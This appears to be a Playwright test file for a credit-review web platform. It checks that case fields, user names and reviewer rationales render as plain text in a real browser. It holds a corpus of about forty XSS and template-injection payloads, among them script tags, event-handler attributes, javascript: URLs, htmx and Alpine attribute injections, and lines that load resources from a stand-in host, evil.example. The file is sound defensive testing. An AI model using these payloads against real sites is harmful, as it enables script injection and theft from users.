"""Text of cases and people is only ever text: forty ways to become markup, rendered by a real browser, stay words.

That no dialog opens, no script fails and no policy is violated is asserted of every window when the stage closes.
"""

from typing import Any

from playwright.sync_api import expect

from hitl_platform.tenants.models import User
from tests.browser.stage import Stage, press
from tests.portal.scene import open_desk

CORPUS = [
    "<script>alert(1)</script>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    "<svg onload=alert(4)>",
    "<svg><script>alert(5)</script></svg>",
    "<svg><animate onbegin=alert(6) attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><!--</style><img src onerror=alert(7)>",
    "<iframe srcdoc='<script>alert(8)</script>'></iframe>",
    "<iframe src=javascript:alert(9)></iframe>",
    "<a href=javascript:alert(10)>here</a>",
    "[here](javascript:alert(11))",
    "javascript:alert(12)",
    "data:text/html,<script>alert(13)</script>",
    "<body onload=alert(14)>",
    "<details open ontoggle=alert(15)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(16)>",
    "<video><source onerror=alert(17)></video>",
    "<object data=javascript:alert(18)></object>",
    "<embed src=javascript:alert(19)>",
    "<form action=javascript:alert(20)><button>x</button></form>",
    "<button formaction=javascript:alert(21)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(22)'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/)}</style>",
    "<div style='background:url(javascript:alert(26))'>x</div>",
    "<div hx-on:load='alert(27)'>x</div>",
    "<div hx-get=//evil.example/ hx-trigger=load>x</div>",
    "<div x-data x-init='alert(29)'>x</div>",
    "<div data-key='Enter' data-beat='//evil.example/' data-lease='1'>x</div>",
    "<template><script>alert(31)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(32)>'>",
    "{{ 7*7 }} {% debug %} ${7*7} #{7*7} <%= 7*7 %>",
    "\"><script>alert(34)</script>",
    "' onmouseover='alert(35)",
    "` onmouseover=alert(36) `",
    "line\u2028alert(37)\u2029end",
    "&lt;script&gt;alert(38)&lt;/script&gt; &amp; &#60;b&#62;",
    "<!--><script>alert(39)</script>-->",
    "<![CDATA[<script>alert(40)</script>]]>",
    "\u202etxt.exe\u202c <\u200bscript>alert(41)</script>",
    "\ufeff<ScRiPt\x0b>alert(42)</ScRiPt\x0b>",
]  # fmt: skip


def seen(stage: Stage, who: str) -> Any:
    """A window of somebody with the next case."""
    page = stage.open(who)
    page.goto("/queues/credit/")
    press(page, "n")
    expect(page.get_by_role("heading", name="Case")).to_be_visible()
    return page


def test_text_of_a_case_stays_text(stage: Stage) -> None:
    assert len(CORPUS) >= 40
    desk = open_desk(stage.cast, cases=0)
    rows = [{"year": number, "lender": text, "amount": 1, "paid": True} for number, text in enumerate(CORPUS)]
    desk.submit(statement="\n".join(CORPUS), purpose=CORPUS[0], past=rows, **{text: text for text in CORPUS})
    desk.run()
    page = seen(stage, "alice")
    cells = page.locator(".block td:nth-child(2)").evaluate_all("cells => cells.map(cell => cell.textContent)")
    assert cells == CORPUS
    assert page.locator(".prose[data-text]").evaluate("text => text.textContent") == "\n".join(CORPUS)
    page.get_by_text("Other fields").click()
    rest = page.locator("details.block dd").evaluate_all("values => values.map(value => value.textContent)")
    assert sorted(rest) == sorted(CORPUS)
    assert page.evaluate("document.querySelectorAll('main iframe, main script, main object, main style').length") == 0


def test_text_of_people_stays_text(stage: Stage) -> None:
    User.objects.filter(pk=stage.cast.people["alice"].id).update(name=CORPUS[2])
    desk = open_desk(stage.cast, cases=1, seats=2, mode="unanimous", undo_seconds=0)
    words = "\n".join(CORPUS)
    for name, label in (("alice", "Approve"), ("bob", "Decline")):
        page = seen(stage, name)
        page.get_by_role("radio", name=label).check()
        page.get_by_role("textbox", name="Rationale").fill(words)
        expect(page.get_by_text("Draft saved at")).to_be_visible()
        page.reload()
        expect(page.get_by_role("textbox", name="Rationale")).to_have_value(sent(words))
        page.get_by_role("button", name="Submit").click()
        expect(page.get_by_role("heading", name="Finished today")).to_be_visible()
    desk.run()
    page = seen(stage, "sam")
    told = page.locator("blockquote").evaluate_all("quotes => quotes.map(quote => quote.textContent)")
    assert [text.replace("\r\n", "\n") for text in told] == [words, words]


def sent(text: str) -> str:
    """A text as a textarea gives it back."""
    return text.replace("\r\n", "\n")
